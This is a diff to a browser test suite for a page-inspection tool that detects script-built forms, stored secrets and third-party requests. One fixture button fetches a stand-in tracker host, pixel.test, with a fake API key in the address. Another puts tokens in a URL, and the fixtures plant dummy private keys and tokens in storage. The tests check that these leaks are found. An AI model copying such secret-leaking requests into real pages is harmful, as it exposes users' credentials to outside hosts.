@@ -24,7 +24,7 @@ const PAGES = {
   '/query': `<!doctype html><title>t</title><script>history.replaceState(null, '', '?state=1&code=x&p=${JWT}')</script>`,
   '/keys': `<!doctype html><title>t</title><script>sessionStorage.setItem('pem', '-----BEGIN PRIVATE KEY-----x'); localStorage.setItem('llm', '{"k":"sk-proj-0123456789abcdefghijklmn"}'); localStorage.setItem('shop', 'shpat_0123456789abcdef0123456789abcdef'); localStorage.setItem('word', 'sk-only-a-word')</script>`,
   '/cookies': `<!doctype html><title>t</title><script>document.cookie = '__Host-part=1; Secure; Path=/; SameSite=None; Partitioned'; document.cookie = 'plain=1; Secure'</script>`,
-  '/made': `<!doctype html><title>t</title><div id=r></div><script>document.getElementById('r').innerHTML='<form action="/in"><input type=password></form>'</script><form action="/own" method="post"><button formaction="https://idp.test/f"></button></form>`,
+  '/made': `<!doctype html><title>t</title><div id=r></div><script>document.getElementById('r').innerHTML='<form action="/in"><input type=password></form>'</script><form action="/own" method="post"><button formaction="https://idp.test/f"></button></form><nav><button onclick="fetch('/accepted')"> Accept all</button><button onclick="fetch('/opened?token=${JWT}&apikey=${JWT}')">Menu</button><button onclick="fetch('https://pixel.test/i.png?key=sk_live_0123456789abcdef')">Acceptance</button></nav>`,
   '/others': `<!doctype html><title>t</title><img src="https://pixel.test/i.png"><iframe src="https://pixel.test/frame"></iframe>`,
 };
 const third = (type: string, body: string, name: string) => ({
@@ -117,14 +117,22 @@ describe.skipIf(!browserOrSkip())('pages that hide from their reader', () => {
     expect(cookies.find(({ name }) => name === 'plain')).not.toHaveProperty('partitioned');
   });
 
-  it('/made: a form in the text of a script is not part of the markup', { timeout: 60_000 }, async () => {
-    expect((await look('/made')).forms).toMatchObject([
-      { action: 'https://hide.test/in', by_script: true },
-      { action: 'https://hide.test/own', by_script: false },
-      // Where its button submits it.
-      { action: 'https://idp.test/f', method: 'post', by_script: false },
-    ]);
-  });
+  it(
+    '/made: a form in the text of a script is not part of the markup; menus open, banners stay',
+    { timeout: 60_000 },
+    async () => {
+      const { forms, requests } = await look('/made');
+      expect(forms).toMatchObject([
+        { action: 'https://hide.test/in', by_script: true },
+        { action: 'https://hide.test/own', by_script: false },
+        // Where its button submits it.
+        { action: 'https://idp.test/f', method: 'post', by_script: false },
+      ]);
+      // A menu is opened, and no decision is made. Of secrets in addresses the name is kept.
+      const fetched = requests.flatMap(({ url, type, secret }) => (type === 'fetch' ? [[new URL(url).pathname, secret]] : [])); // prettier-ignore
+      expect(fetched).toEqual([['/opened', 'token'], ['/i.png', 'key']]); // prettier-ignore
+    },
+  );
 
   it('/others: third-party cookies are seen, and which of them a response set', { timeout: 60_000 }, async () => {
     const { cookies } = await look('/others');
